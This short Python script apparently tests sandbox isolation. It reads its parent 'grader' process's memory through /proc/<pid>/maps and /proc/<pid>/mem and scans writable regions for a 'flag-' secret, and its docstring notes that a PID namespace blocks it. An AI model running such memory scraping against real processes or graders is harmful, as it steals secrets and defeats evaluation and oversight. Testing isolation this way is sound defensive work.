"""Searches the memory of the process that started it for the flag.

stopped by: pid namespace
unfenced: succeeds
"""
# %%
import os
import re


def attack():
    grader = os.getppid() or 1
    with open(f"/proc/{grader}/maps") as maps, open(f"/proc/{grader}/mem", "rb", 0) as memory:
        for line in maps:
            start, end, mode = re.match("([0-9a-f]+)-([0-9a-f]+) (....)", line).groups()
            if mode == "rw-p":
                try:
                    memory.seek(int(start, 16))
                    data = memory.read(min(int(end, 16) - int(start, 16), 64 << 20))
                except (OSError, OverflowError):
                    continue
                if found := re.findall(b"flag-[0-9a-f]{32}", data):
                    return found
